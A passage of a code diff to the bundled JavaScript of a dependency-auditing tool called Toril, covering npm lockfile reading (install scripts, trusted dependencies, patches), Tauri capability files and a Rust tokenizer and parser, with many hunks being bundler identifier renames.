+function archiveNeed({ name, version, source, integrity, target }) {
   if (!isOwnRegistry(source) || integrity === null || target !== null) return void 0;
-  return { kind: "npm package", name, version, integrity, risk };
+  return { kind: "npm package", name, version, integrity, risk: "known name" };
 }
 
 // src/readers/npm-lock/archive-steps.ts
-function askedOfArchive(each, { packages }) {
+function askedOfArchive(each, { packages, version }) {
+  const steps = version === 1 ? null : [];
   const archive = archiveOf(packages, each);
   const asks = (archive && archiveNeed(archive)) ?? null;
   if (archive === void 0 || asks === null)
-    return { asks: null, folderInArchive: "", steps: [], unknown: whyNotAsked2(archive ?? each) };
+    return { asks: null, folderInArchive: "", steps, unknown: whyNotAsked2(archive ?? each) };
   const folderInArchive = each.location.slice(archive.location.length + 1);
-  return { asks, folderInArchive, steps: [], unknown: NOT_ASKED };
+  return { asks, folderInArchive, steps, unknown: NOT_ASKED };
 }
-var UNSEEN = "without the lockfile saying so";
+var UNSEEN2 = "without the lockfile saying so";
 function whyNotAsked2({ source, integrity }) {
-  if (source.kind === "git") return `npm runs the scripts of a git repository ${UNSEEN}; read them there`;
+  if (source.kind === "git") return `npm runs the scripts of a git repository ${UNSEEN2}; read them there`;
   if (isOwnRegistry(source) && integrity === null)
     return "the lockfile holds no hash that would pin what is looked at; let npm write it anew";
-  return `npm builds what holds a \`binding.gyp\` ${UNSEEN}, and Toril asks no address that a lockfile names; look for one in each`;
+  return `npm builds what holds a \`binding.gyp\` ${UNSEEN2}, and Toril asks no address that a lockfile names; look for one in each`;
 }
 
 // src/readers/npm-lock/package-grants.ts
 function packageGrants(lock, folder, project) {
   const packages = [...lock.packages.values()];
   const own = packages.filter((each) => !isInstalled(each.location));
-  const neededBy = (each) => each.requirements.flatMap(({ name }) => resolveFrom(lock.packages, each.location, name) ?? []);
+  const neededBy2 = (each) => each.requirements.flatMap(({ name }) => resolveFrom(lock.packages, each.location, name) ?? []);
   const wayTo2 = shortestPaths({
     roots: [own.filter((each) => each.location === ""), own],
-    next: neededBy,
+    next: neededBy2,
     nameOf: (each) => each.name
   });
   return packages.filter((each) => isInstalled(each.location) && !isOwn2(each, folder)).map((each) => ({
@@ -19739,30 +22660,30 @@ function packageGrants(lock, folder, project) {
     name: each.name,
     version: each.version,
     source: each.source,
-    checksum: each.integrity ?? archiveHere(each, folder, project),
-    ...whatRuns(each, lock, folder, project),
+    checksum: each.integrity ?? archiveHere2(each, folder, project),
+    ...whatRuns2(each, lock, folder, project),
     links: null,
     alias: nameIn2(each.location) === each.name ? null : nameIn2(each.location),
     declared: each.target === null ? each.declared : null,
     listing: null,
     scope: each.scope,
-    needs: [...new Set(neededBy(each).map(({ name, version }) => `${name} ${version}`))],
+    needs: [...new Set(neededBy2(each).map(({ name, version }) => `${name} ${version}`))],
     path: wayTo2(each),
     at: each.at,
     lines: each.lines
   }));
 }
 function isOwn2({ target }, { manifest: manifest2 }) {
-  return target !== null && isWorkspace(target, manifest2);
+  return target !== null && isWorkspace2(target, manifest2);
 }
-function archiveHere({ source }, { path }, { contents }) {
+function archiveHere2({ source }, { path }, { contents }) {
   const place = archivePath(source, path);
   const content = place === null ? "" : contents.at(place);
   return content === "" ? null : `content-${content}`;
 }
 var NOTHING_ASKED = { asks: null, folderInArchive: "" };
-function whatRuns(each, lock, folder, project) {
-  const outcome2 = folder.outcomeOf(each);
+function whatRuns2(each, lock, folder, project) {
+  const outcome2 = folder.outcomeOf("npm", each);
   if (each.target !== null)
     return { ...NOTHING_ASKED, ...whatFolderRuns(each.target, folder, project), outcome: outcome2 };
   if (each.hasInstallScript) return { ...NOTHING_ASKED, steps: ["install-script"], unknown: null, outcome: outcome2 };
@@ -19783,40 +22704,37 @@ function whatFolderRuns(target, { path }, { files, contents }) {
   return { steps: scripts || builds2 ? ["install-script"] : [], unknown: null };
 }
 
-// src/readers/npm-lock/unpinned.ts
-function unpinnedPackages(folders, locks, project) {
-  const pinned2 = new Set(locks.npm.map(({ path }) => folderOf(path)));
-  return folders.filter(({ path }) => !withAncestors(path).some((folder) => pinned2.has(folder))).flatMap((folder) => [folder.manifest, ...workspaceManifests(folder, project)]).flatMap(
-    (manifest2) => requirementsOf(manifest2, false).filter(({ kind, text: text2 }) => kind !== "optional peer" && !isOfWorkspace(text2)).map(({ name, text: text2, at: at2 }) => ({
-      domain: "packages",
-      kind: "unpinned-package",
-      ecosystem: "npm",
-      name,
-      wanted: `${name}@${text2}`,
-      from: sourceOf2(text2),
-      at: at2
-    }))
-  );
-}
-function workspaceManifests(folder, project) {
-  return workspacesOf(folder, project).flatMap(({ folder: workspace }) => {
-    const file2 = project.files.get(inFolder(inFolder(folder.path, workspace), "package.json"));
-    const parsed7 = file2 && parseFile(file2);
-    return parsed7?.ok ? [parsed7.value] : [];
+// src/readers/npm-lock/settings/locked-settings.ts
+function lockedSettings({ path, settings: settings2 }, contents) {
+  return settings2.flatMap(({ name, value, at: at2 }) => {
+    const common2 = { from: "lockfile", at: at2 };
+    if (name === "trustedDependencies") {
+      const written6 = `trustedDependencies: ${value}`;
+      return [
+        {
+          ...common2,
+          name: "trusted-dependencies",
+          value: "",
+          of: value,
+          written: written6,
+          effect: "more",
+          decides: "approval"
+        }
+      ];
+    }
+    if (name !== "patch") return [];
+    const place = joined(folderOf(path), value);
+    const content = place === null ? "" : contents.at(place);
+    const said2 = { value: `${value} ${content}`, of: value, written: `patch: ${value}` };
+    return [{ ...common2, ...said2, name: "patch", effect: "other", decides: "patch" }];
   });
-}
-function isOfWorkspace(text2) {
-  return text2.startsWith("workspace:");
-}
-function sourceOf2(text2) {
-  return /[:/]/.test(text2) ? code(text2) : "the registry";
 }
 
 // src/readers/npm-lock/workspace-scripts.ts
 function workspaceScripts(folder, project) {
   return workspacesOf(folder, project).flatMap(({ folder: workspace, pattern }) => {
     const place = inFolder(folder.path, workspace);
-    if (folder.policy.scripts === "none") return [];
+    if (INSTALLERS.every((installer) => folder.policy.scripts[installer] === "none")) return [];
     if (whatFolderRuns(workspace, folder, project).steps?.includes("install-script") !== true) return [];
     const path = inFolder(place, "package.json");
     const file2 = project.files.get(path);
@@ -19845,35 +22763,52 @@ var npmLock = {
   follows(project) {
     return isInstalledFor(project, commandsOfApp(project));
   },
-  needs: neededArchives,
-  read(project) {
-    const commands2 = commandsOfApp(project);
-    const locks = frontendLocks(project, commands2);
-    const folders = new Map(locks.folders.map((path) => [path, installFolder(project, path, commands2)]));
-    const grants = locks.unread.map(unread);
-    const gaps = untoldFolders(project, commands2, locks);
-    for (const folder of folders.values()) {
-      grants.push(folder.policy);
-      grants.push(...workspaceScripts(folder, project));
-      gaps.push(...folder.gaps);
-    }
-    grants.push(...unpinnedPackages([...folders.values()], locks, project));
-    for (const file2 of locks.npm) {
-      const folder = folders.get(folderOf(file2.path));
-      if (folder === void 0) continue;
-      const read7 = readLock(file2, folder, project);
-      for (const grant of read7.grants) grants.push(grant);
-      for (const gap3 of read7.gaps) gaps.push(gap3);
-    }
-    return { grants, gaps };
-  }
+  needs(base, head) {
+    return neededArchives(base === null ? [] : surfaceOf(base).grants, surfaceOf(head).grants);
+  },
+  read: surfaceOf
 };
+var surfaces = /* @__PURE__ */ new WeakMap();
+function surfaceOf(project) {
+  const known7 = surfaces.get(project) ?? surfaceIn(project);
+  surfaces.set(project, known7);
+  return known7;
+}
+function surfaceIn(project) {
+  const commands2 = commandsOfApp(project);
+  const locks = frontendLocks(project, commands2);
+  const folders = new Map(locks.folders.map((path) => [path, installFolder(project, path, commands2)]));
+  const grants = locks.unread.map(unread);
+  const gaps = untoldFolders(project, commands2, locks);
+  for (const folder of folders.values()) {
+    const own = locks.others.filter(({ path }) => folderOf(path) === folder.path);
+    const locked = own.flatMap((lock) => lockedSettings(lock, project.contents));
+    grants.push({ ...folder.policy, settings: [...folder.policy.settings, ...locked] });
+    grants.push(...workspaceScripts(folder, project));
+    gaps.push(...folder.gaps);
+  }
+  grants.push(...unpinnedPackages([...folders.values()], locks, project));
+  for (const file2 of locks.npm) {
+    const folder = folders.get(folderOf(file2.path));
+    if (folder === void 0) continue;
+    const read9 = readLock(file2, folder, project);
+    for (const grant of read9.grants) grants.push(grant);
+    for (const gap3 of read9.gaps) gaps.push(gap3);
+  }
+  for (const lock of locks.others) {
+    const folder = folders.get(folderOf(lock.path));
+    const read9 = folder && lockedGrants(lock, folder, project);
+    for (const grant of read9?.grants ?? []) grants.push(grant);
+    for (const gap3 of read9?.gaps ?? []) gaps.push(gap3);
+  }
+  return { grants, gaps };
+}
 function readLock(file2, folder, project) {
   const lock = readNpmLock(file2);
-  if (lock.version === 1) return { grants: [unread(file2)], gaps: lock.gaps };
+  const { grants, gaps } = unlockedPackages(lock, folder, project);
   return {
-    grants: packageGrants(lock, folder, project),
-    gaps: [...lock.gaps, ...manifestGaps(lock, folder, project)]
+    grants: [...packageGrants(lock, folder, project), ...grants],
+    gaps: [...lock.gaps, ...gaps]
   };
 }
 function unread({ path, id }) {
@@ -19885,14 +22820,14 @@ var MOST_IN_A_FILE = 2e4;
 function readCapabilityFile(root) {
   const listed = member(root, "capabilities");
   const items = root.kind === "array" ? root.items : listed?.kind === "array" ? listed.items : [root];
-  const read7 = items.slice(0, MOST_IN_A_FILE).map(readCapability);
+  const read9 = items.slice(0, MOST_IN_A_FILE).map(readCapability);
   const rest2 = items.slice(MOST_IN_A_FILE, MOST_IN_A_FILE + 1).map(({ at: at2 }) => {
     const message = `The file has more than ${MOST_IN_A_FILE} capabilities; this one and the rest were not read.`;
     return gapAt(at2, { kind: "truncated", rests: wordsOf(items.slice(MOST_IN_A_FILE).map(plain)), message });
   });
   return {
-    capabilities: read7.flatMap(({ capability }) => capability ?? []),
-    gaps: [...read7.flatMap(({ gaps }) => gaps), ...rest2]
+    capabilities: read9.flatMap(({ capability }) => capability ?? []),
+    gaps: [...read9.flatMap(({ gaps }) => gaps), ...rest2]
   };
 }
 function readCapability(value) {
@@ -19989,31 +22924,31 @@ function appCrates({ location, files, manifest: manifest2 }) {
   ];
 }
 function knowingTauri(crates) {
-  const known6 = new Set(crates.filter(knowsTauri).map(({ manifest: manifest2 }) => manifest2.folder));
-  for (let size = -1; size < known6.size; ) {
-    size = known6.size;
+  const known7 = new Set(crates.filter(knowsTauri).map(({ manifest: manifest2 }) => manifest2.folder));
+  for (let size = -1; size < known7.size; ) {
+    size = known7.size;
     for (const { manifest: manifest2, dependencies } of crates) {
       const reaches2 = dependencies.some(
-        ({ kind, source }) => kind === "normal" && source.kind === "path" && source.folder !== null && known6.has(source.folder)
+        ({ kind, source }) => kind === "normal" && source.kind === "path" && source.folder !== null && known7.has(source.folder)
       );
-      if (reaches2) known6.add(manifest2.folder);
+      if (reaches2) known7.add(manifest2.folder);
     }
   }
-  return crates.filter(({ manifest: manifest2 }) => known6.has(manifest2.folder));
+  return crates.filter(({ manifest: manifest2 }) => known7.has(manifest2.folder));
 }
 function knowsTauri({ dependencies, isMacro }) {
   return isMacro || dependencies.some(({ kind, crate: crate2 }) => kind === "normal" && crate2.startsWith("tauri"));
 }
 
 // src/formats/rust/token.ts
-function isMark(token2, text2) {
-  return token2?.kind === "mark" && token2.text === text2;
+function isMark(token2, text3) {
+  return token2?.kind === "mark" && token2.text === text3;
 }
-function isOpen(token2, text2) {
-  return token2?.kind === "open" && token2.text === text2;
+function isOpen(token2, text3) {
+  return token2?.kind === "open" && token2.text === text3;
 }
-function isKeyword(token2, text2) {
-  return token2?.kind === "word" && token2.text === text2 && token2.end - token2.start === text2.length;
+function isKeyword(token2, text3) {
+  return token2?.kind === "word" && token2.text === text3 && token2.end - token2.start === text3.length;
 }
 
 // src/formats/rust/stretch.ts
@@ -20053,7 +22988,7 @@ function indexOfMark(tokens, mark, { from, to }) {
   return -1;
 }
 function writtenOf({ tokens }, { from, to }) {
-  return tokens.slice(from, to).map(({ kind, text: text2 }) => kind === "text" ? JSON.stringify(text2) : text2).join(" ");
+  return tokens.slice(from, to).map(({ kind, text: text3 }) => kind === "text" ? JSON.stringify(text3) : text3).join(" ");
 }
 function spanOf({ tokens }, { from, to }) {
   const start = tokens[from]?.start ?? 0;
@@ -20152,101 +23087,101 @@ var RustFault = class extends Error {
     this.offset = offset;
   }
 };
-var WORD2 = /(?:r#)?[A-Za-z_\u0080-\uffff][\w\u0080-\uffff]*/y;
+var WORD3 = /(?:r#)?[A-Za-z_\u0080-\uffff][\w\u0080-\uffff]*/y;
 var NUMBER2 = /[0-9](?:\w|\.(?=[0-9]))*/y;
 var CHARACTER = /b?'(?:[^'\\\n\r\t]|\\(?:u\{[0-9a-fA-F_]*\}|x[0-9a-fA-F]{2}|[^\n]))'/uy;
 var LIFETIME = /'(?:r#)?[A-Za-z_\u0080-\uffff][\w\u0080-\uffff]*/y;
 var QUOTE = /[bc]?"/y;
 var RAW = /[bc]?r#*"/y;
-var SPACE3 = /[\s\u0085\u200e\u200f]+/y;
+var SPACE4 = /[\s\u0085\u200e\u200f]+/y;
 var MARK = /::|->|=>|==|[!#$%&*+,\-./:;<=>?@^|~]/y;
 var SHEBANG = /#!(?!\s*\[)[^\n]*/y;
-function* scan(text2) {
-  const first = text2.startsWith("\uFEFF") ? 1 : 0;
-  let at2 = Math.max(first, endOf(SHEBANG, text2, first));
-  while (at2 < text2.length) {
-    const skipped = afterBlank(text2, at2);
+function* scan(text3) {
+  const first = text3.startsWith("\uFEFF") ? 1 : 0;
+  let at2 = Math.max(first, endOf(SHEBANG, text3, first));
+  while (at2 < text3.length) {
+    const skipped = afterBlank(text3, at2);
     if (skipped === at2) {
-      const found9 = tokenAt(text2, at2);
+      const found9 = tokenAt(text3, at2);
       yield found9;
       at2 = found9.end;
     } else at2 = skipped;
   }
 }
-function afterBlank(text2, at2) {
-  if (text2[at2] !== "/") return Math.max(at2, endOf(SPACE3, text2, at2));
-  if (text2[at2 + 1] === "*") return afterBlockComment(text2, at2);
-  if (text2[at2 + 1] !== "/") return at2;
-  const end = text2.indexOf("\n", at2);
-  return end < 0 ? text2.length : end;
+function afterBlank(text3, at2) {
+  if (text3[at2] !== "/") return Math.max(at2, endOf(SPACE4, text3, at2));
+  if (text3[at2 + 1] === "*") return afterBlockComment(text3, at2);
+  if (text3[at2 + 1] !== "/") return at2;
+  const end = text3.indexOf("\n", at2);
+  return end < 0 ? text3.length : end;
 }
-function afterBlockComment(text2, start) {
+function afterBlockComment(text3, start) {
   const mark = /\/\*|\*\//g;
   mark.lastIndex = start;
   let depth = 0;
-  for (let found9 = mark.exec(text2); found9 !== null; found9 = mark.exec(text2)) {
+  for (let found9 = mark.exec(text3); found9 !== null; found9 = mark.exec(text3)) {
     depth += found9[0] === "/*" ? 1 : -1;
     if (depth === 0) return mark.lastIndex;
   }
   throw new RustFault("a comment never ends", start);
 }
-function tokenAt(text2, at2) {
-  const first = text2[at2] ?? "";
+function tokenAt(text3, at2) {
+  const first = text3[at2] ?? "";
   if ("([{".includes(first)) return token("open", first, at2, at2 + 1);
   if (")]}".includes(first)) return token("close", first, at2, at2 + 1);
-  const literal3 = `"'bcr`.includes(first) ? literalAt(text2, at2) : void 0;
-  return literal3 ?? wordAt2(text2, at2) ?? plain3("number", NUMBER2, text2, at2) ?? markAt(text2, at2);
+  const literal3 = `"'bcr`.includes(first) ? literalAt(text3, at2) : void 0;
+  return literal3 ?? wordAt2(text3, at2) ?? plain3("number", NUMBER2, text3, at2) ?? markAt(text3, at2);
 }
-function literalAt(text2, at2) {
-  const open = endOf(QUOTE, text2, at2);
-  if (open >= 0) return quoted2(text2, at2, open);
-  const rawOpen = endOf(RAW, text2, at2);
-  if (rawOpen >= 0) return rawQuoted(text2, at2, rawOpen);
-  return plain3("character", CHARACTER, text2, at2) ?? plain3("lifetime", LIFETIME, text2, at2);
+function literalAt(text3, at2) {
+  const open = endOf(QUOTE, text3, at2);
+  if (open >= 0) return quoted2(text3, at2, open);
+  const rawOpen = endOf(RAW, text3, at2);
+  if (rawOpen >= 0) return rawQuoted(text3, at2, rawOpen);
+  return plain3("character", CHARACTER, text3, at2) ?? plain3("lifetime", LIFETIME, text3, at2);
 }
-function quoted2(text2, start, open) {
+function quoted2(text3, start, open) {
   const stop = /["\\]/g;
   stop.lastIndex = open;
-  for (let found9 = stop.exec(text2); found9 !== null; found9 = stop.exec(text2)) {
+  for (let found9 = stop.exec(text3); found9 !== null; found9 = stop.exec(text3)) {
     if (found9[0] === '"') {
-      const kind = text2[start] === '"' ? "text" : "bytes";
-      return token(kind, meaningOfText(text2.slice(open, found9.index)), start, found9.index + 1);
+      const kind = text3[start] === '"' ? "text" : "bytes";
+      return token(kind, meaningOfText(text3.slice(open, found9.index)), start, found9.index + 1);
     }
     stop.lastIndex += 1;
   }
   throw new RustFault("a text never ends", start);
 }
-function rawQuoted(text2, start, open) {
-  const hashes = "#".repeat(open - 1 - text2.indexOf("r", start) - 1);
-  const close = text2.indexOf(`"${hashes}`, open);
+function rawQuoted(text3, start, open) {
+  const hashes = "#".repeat(open - 1 - text3.indexOf("r", start) - 1);
+  const close = text3.indexOf(`"${hashes}`, open);
   if (close < 0) throw new RustFault("a text never ends", start);
-  const kind = text2[start] === "r" ? "text" : "bytes";
-  return token(kind, text2.slice(open, close), start, close + 1 + hashes.length);
+  const kind = text3[start] === "r" ? "text" : "bytes";
+  return token(kind, text3.slice(open, close), start, close + 1 + hashes.length);
 }
-function wordAt2(text2, at2) {
-  const word2 = plain3("word", WORD2, text2, at2);
+function wordAt2(text3, at2) {
+  const word2 = plain3("word", WORD3, text3, at2);
   return word2?.text.startsWith("r#") ? token("word", word2.text.slice(2), word2.start, word2.end) : word2;
 }
-function markAt(text2, at2) {
-  const mark = plain3("mark", MARK, text2, at2);
+function markAt(text3, at2) {
+  const mark = plain3("mark", MARK, text3, at2);
   if (mark === void 0) throw new RustFault("it holds a character that Rust doesn't know", at2);
   return mark;
 }
-function plain3(kind, pattern, text2, at2) {
-  const end = endOf(pattern, text2, at2);
-  return end < 0 ? void 0 : token(kind, text2.slice(at2, end), at2, end);
+function plain3(kind, pattern, text3, at2) {
+  const end = endOf(pattern, text3, at2);
+  return end < 0 ? void 0 : token(kind, text3.slice(at2, end), at2, end);
 }
-function token(kind, text2, start, end) {
-  return { kind, text: text2, start, end, partner: -1, parent: -1 };
+function token(kind, text3, start, end) {
+  return { kind, text: text3, start, end, partner: -1, parent: -1 };
 }
-function endOf(pattern, text2, at2) {
+function endOf(pattern, text3, at2) {
   pattern.lastIndex = at2;
-  return pattern.test(text2) ? pattern.lastIndex : -1;
+  return pattern.test(text3) ? pattern.lastIndex : -1;
 }
 
 // src/formats/rust/source.ts
 var MOST_TOKENS = 1e6;
-var DEEPEST3 = 1e3;
+var DEEPEST6 = 1e3;
 function rustSource(file2) {
   try {
     return { file: file2, tokens: paired(file2.text), fault: null };
@@ -20259,10 +23194,10 @@ function wholeOf({ tokens }) {
   return { from: 0, to: tokens.length };
 }
 var CLOSING = { "(": ")", "[": "]", "{": "}" };
-function paired(text2) {
+function paired(text3) {
   const tokens = [];
   const open = [];
-  for (const token2 of scan(text2)) {
+  for (const token2 of scan(text3)) {
     if (tokens.length >= MOST_TOKENS)
       throw new RustFault("it is larger than any code that people write", token2.start);
     const opening2 = token2.kind === "close" ? open.pop() : void 0;
@@ -20270,7 +23205,7 @@ function paired(text2) {
     token2.parent = open.at(-1) ?? -1;
     tokens.push(token2);
     if (token2.kind === "open") {
-      if (open.length >= DEEPEST3)
+      if (open.length >= DEEPEST6)
         throw new RustFault("its brackets stand in one another too deep", token2.start);
       open.push(tokens.length - 1);
     } else if (token2.kind === "close") {
@@ -20299,12 +23234,12 @@ function requirementsOf2(source, { from }) {
   const [predicate] = argumentsAt(source, from + 1);
   return predicate === void 0 ? [] : neededFor(source, predicate, 0);
 }
-var DEEPEST4 = 32;
+var DEEPEST7 = 32;
 var NEVER = { kind: "never", name: "any()" };
 function neededFor(source, predicate, depth) {
   const { tokens } = source;
   const [word2, next2] = [tokens[predicate.from], tokens[predicate.from + 1]];
-  if (word2?.kind !== "word" || depth > DEEPEST4) return [];
+  if (word2?.kind !== "word" || depth > DEEPEST7) return [];
   if (isOpen(next2, "(")) {
     const parts = argumentsAt(source, predicate.from + 1).map((part) => neededFor(source, part, depth + 1));
     if (word2.text === "all") return parts.flat();
@@ -20322,14 +23257,14 @@ function neededByEach([first, ...others]) {
     ({ kind, name }) => others.every((part) => part.some((each) => each.kind === kind && each.name === name))
   );
 }
-var KNOWN = /^(?:target_\w+|all|any|debug_assertions|desktop|dev|doc|doctest|false|feature|miri|mobile|not|overflow_checks|panic|proc_macro|test|true|unix|windows)$/;
+var KNOWN2 = /^(?:target_\w+|all|any|debug_assertions|desktop|dev|doc|doctest|false|feature|miri|mobile|not|overflow_checks|panic|proc_macro|test|true|unix|windows)$/;
 function isDecidedElsewhere({ tokens }, { from, to }) {
   const words3 = tokens.slice(from, to).filter(({ kind }) => kind === "word");
-  const isNegated = words3.some(({ text: text2 }) => text2 === "not") && words3.some(({ text: text2 }) => text2 === "feature");
-  return isNegated || words3.some(({ text: text2 }) => isCustomCondition(text2));
+  const isNegated = words3.some(({ text: text3 }) => text3 === "not") && words3.some(({ text: text3 }) => text3 === "feature");
+  return isNegated || words3.some(({ text: text3 }) => isCustomCondition(text3));
 }
 function isCustomCondition(name) {
-  return !KNOWN.test(name);
+  return !KNOWN2.test(name);
 }
 
 // src/formats/rust/enclosing.ts
@@ -20355,7 +23290,7 @@ function isInMacro(groups3) {
 }
 
 // src/formats/rust/expression.ts
-var DEEPEST5 = 200;
+var DEEPEST8 = 200;
 function expressionIn(source, stretch, depth = 0) {
   const { tokens } = source;
   let { from } = stretch;
@@ -20363,7 +23298,7 @@ function expressionIn(source, stretch, depth = 0) {
     from += 1;
   const span = spanOf(source, { from, to: stretch.to });
   const other = { kind: "other", span };
-  const first = depth > DEEPEST5 ? null : primary(source, { from, to: stretch.to }, depth);
+  const first = depth > DEEPEST8 ? null : primary(source, { from, to: stretch.to }, depth);
   if (first === null) return other;
   let { expression, next: next2 } = first;
   for (let length = 0; next2 < stretch.to; length += 1) {
@@ -20371,7 +23306,7 @@ function expressionIn(source, stretch, depth = 0) {
       next2 += 1;
       continue;
     }
-    const method = length > DEEPEST5 ? null : methodAt(source, next2, stretch.to);
+    const method = length > DEEPEST8 ? null : methodAt(source, next2, stretch.to);
     if (method === null) return other;
     const { name, open } = method;
     expression = {
@@ -20401,7 +23336,7 @@ function primary(source, { from, to }, depth) {
       return { expression: { kind: "boolean", value: word2 === "true", span }, next: next2 };
   if (isOpen(token2, "(")) return bracketed(source, from, span, depth);
   if (isOpen(token2, "[")) return { expression: listAt(source, from, span, depth), next: next2 };
-  return token2.kind === "word" || isMark(token2, "::") ? named2(source, { from, to }, depth) : null;
+  return token2.kind === "word" || isMark(token2, "::") ? named3(source, { from, to }, depth) : null;
 }
 var CONTROL = new Set(
   "as async await break const continue dyn else enum extern fn for if impl let loop match mod move mut pub ref return static struct trait type unsafe use where while".split(
@@ -20423,41 +23358,41 @@ function listAt(source, open, span, depth) {
   if (indexOfMark(source.tokens, ";", inside) >= 0) return { kind: "other", span };
   return { kind: "list", items: expressionsIn(source, splitBy(source, ",", inside), depth), span };
 }
-function named2(source, { from, to }, depth) {
+function named3(source, { from, to }, depth) {
   const { tokens } = source;
   const path = pathAt(tokens, from, to);
   if (path === null) return null;
-  const { names: names2, next: next2 } = path;
+  const { names: names3, next: next2 } = path;
   const open = isMark(tokens[next2], "!") ? next2 + 1 : next2;
   const isCall = open < to && tokens[open]?.kind === "open" && (open > next2 || isOpen(tokens[open], "("));
   if (!isCall) {
     const isMore = open > next2 || next2 < to && isOpen(tokens[next2], "{");
     if (isMore) return null;
-    return { expression: { kind: "name", path: names2, span: spanOf(source, { from, to: next2 }) }, next: next2 };
+    return { expression: { kind: "name", path: names3, span: spanOf(source, { from, to: next2 }) }, next: next2 };
   }
   const end = after(tokens, open);
   const span = spanOf(source, { from, to: end });
-  if (open > next2 && names2.at(-1) === "vec")
+  if (open > next2 && names3.at(-1) === "vec")
     return { expression: listAt(source, open, span, depth), next: end };
   const kind = open > next2 ? "macro" : "call";
   const given2 = expressionsIn(source, argumentsAt(source, open), depth);
-  return { expression: { kind, path: names2, arguments: given2, span }, next: end };
+  return { expression: { kind, path: names3, arguments: given2, span }, next: end };
 }
 function pathAt(tokens, from, to) {
-  const names2 = [];
+  const names3 = [];
   let next2 = isMark(tokens[from], "::") ? from + 1 : from;
   for (; ; ) {
     const token2 = tokens[next2];
     if (next2 >= to || token2?.kind !== "word" || CONTROL.has(token2.text) && isKeyword(token2, token2.text))
       return null;
-    names2.push(token2.text);
+    names3.push(token2.text);
     next2 += 1;
-    if (!isMark(tokens[next2], "::") || next2 >= to) return { names: names2, next: next2 };
+    if (!isMark(tokens[next2], "::") || next2 >= to) return { names: names3, next: next2 };
     next2 += 1;
     if (!isMark(tokens[next2], "<")) continue;
     const end = afterAngles(tokens, next2, to);
     if (end === null) return null;
-    if (!isMark(tokens[end], "::")) return { names: names2, next: end };
+    if (!isMark(tokens[end], "::")) return { names: names3, next: end };
     next2 = end + 1;
   }
 }
@@ -20470,7 +23405,7 @@ function methodAt({ tokens }, dot, to) {
 }
 
 // src/formats/rust/imports.ts
-var DEEPEST6 = 1e3;
+var DEEPEST9 = 1e3;
 var LONGEST_PATH2 = 128;
 function importsIn(source, keyword, to) {
   const { tokens } = source;
@@ -20478,25 +23413,25 @@ function importsIn(source, keyword, to) {
   const from = isKeyword(tokens[keyword], "extern") ? keyword + 2 : keyword + 1;
   let end = from;
   while (end < to && !isMark(tokens[end], ";")) end = after(tokens, end);
-  return treeIn(source, { from, to: end }, [], 0);
+  return treeIn2(source, { from, to: end }, [], 0);
 }
-function treeIn(source, { from, to }, prefix, depth) {
+function treeIn2(source, { from, to }, prefix, depth) {
   const { tokens } = source;
-  const names2 = [];
+  const names3 = [];
   let at2 = isMark(tokens[from], "::") ? from + 1 : from;
   for (; at2 < to; at2 += 2) {
     const token2 = tokens[at2];
-    const path = [...prefix, ...names2];
-    if (path.length > LONGEST_PATH2 || depth > DEEPEST6) return [];
+    const path = [...prefix, ...names3];
+    if (path.length > LONGEST_PATH2 || depth > DEEPEST9) return [];
     if (isMark(token2, "*")) return [{ path, as: "*" }];
     if (isOpen(token2, "{"))
       return splitBy(source, ",", insideOf2(tokens, at2)).flatMap(
-        (part) => treeIn(source, part, path, depth + 1)
+        (part) => treeIn2(source, part, path, depth + 1)
       );
     if (token2?.kind !== "word") return [];
     if (token2.text === "self" && path.length > 0)
       return [{ path, as: nameAfter(tokens, at2 + 1) ?? path.at(-1) ?? "" }];
-    names2.push(token2.text);
+    names3.push(token2.text);
     if (!isMark(tokens[at2 + 1], "::"))
       return [{ path: [...path, token2.text], as: nameAfter(tokens, at2 + 1) ?? token2.text }];
   }
@@ -20515,9 +23450,9 @@ function itemsOf2(source) {
 }
 var KINDS = { static: "const", trait: "impl" };
 var ITEMS = ["fn", "const", "impl"];
-function kindOf(token2) {
-  const text2 = token2?.text ?? "";
-  return KINDS[text2] ?? text2;
+function kindOf2(token2) {
+  const text3 = token2?.text ?? "";
+  return KINDS[text3] ?? text3;
 }
 var ItemReader = class {
   functions = [];
@@ -20640,7 +23575,7 @@ var ItemReader = class {
   #header(keyword) {
     const to = this.#endOfGroup(keyword);
     let at2 = keyword + 1;
-    const kind = kindOf(this.#tokens[keyword]);
+    const kind = kindOf2(this.#tokens[keyword]);
     for (; at2 < to && !this.#begins(kind, at2); at2 = after(this.#tokens, at2))
       if (isMark(this.#tokens[at2], ";") || isOpen(this.#tokens[at2], "{")) break;
     return at2;
@@ -20648,11 +23583,11 @@ var ItemReader = class {
   /** Whether an item of a kind begins here. `fn(…)` is a type, and `const {` a block. */
   #begins(kind, at2) {
     const token2 = this.#tokens[at2];
-    if (token2 === void 0 || kindOf(token2) !== kind || !isKeyword(token2, token2.text)) return false;
+    if (token2 === void 0 || kindOf2(token2) !== kind || !isKeyword(token2, token2.text)) return false;
     if (kind === "impl") return true;
     const name = isKeyword(this.#tokens[at2 + 1], "ref") ? at2 + 2 : at2 + 1;
-    const isNamed4 = this.#tokens[name]?.kind === "word";
-    return isNamed4 && (kind === "fn" || isMark(this.#tokens[name + 1], ":"));
+    const isNamed5 = this.#tokens[name]?.kind === "word";
+    return isNamed5 && (kind === "fn" || isMark(this.#tokens[name + 1], ":"));
   }
   /** The end of the group around a token. */
   #endOfGroup(at2) {
@@ -20666,9 +23601,9 @@ var NO_MACROS = { defined: [], given: [] };
 function macroFiles({ tokens }, { macros }, place) {
   const defined = macros.map(({ name, body: { from, to } }) => {
     const called3 = tokens.slice(from, to).filter(({ kind }, at2) => kind === "word" && isMark(tokens[from + at2 + 1], "!"));
-    const calls = called3.map(({ text: text2 }) => text2);
+    const calls = called3.map(({ text: text3 }) => text3);
     const isPath = tokens.slice(from, to).some(
-      ({ text: text2 }, at2) => text2 === "path" && isMark(tokens[from + at2 + 1], "=") && isMark(tokens[from + at2 + 2], "$")
+      ({ text: text3 }, at2) => text3 === "path" && isMark(tokens[from + at2 + 1], "=") && isMark(tokens[from + at2 + 2], "$")
     );
     return { name, brings: isPath || calls.includes("include"), calls };
   });
@@ -20677,9 +23612,9 @@ function macroFiles({ tokens }, { macros }, place) {
     const open = tokens[at2 + 2];
     if (token2.kind !== "word" || !isMark(tokens[at2 + 1], "!") || open?.kind !== "open") continue;
     for (let next2 = at2 + 3; next2 < open.partner; next2 += 1) {
-      const text2 = tokens[next2];
-      if (text2?.kind === "text" && /^[^\s{}]+\.\w+$/.test(text2.text))
-        given2.push({ macro: token2.text, text: text2.text, at: place(text2.start, text2.end) });
+      const text3 = tokens[next2];
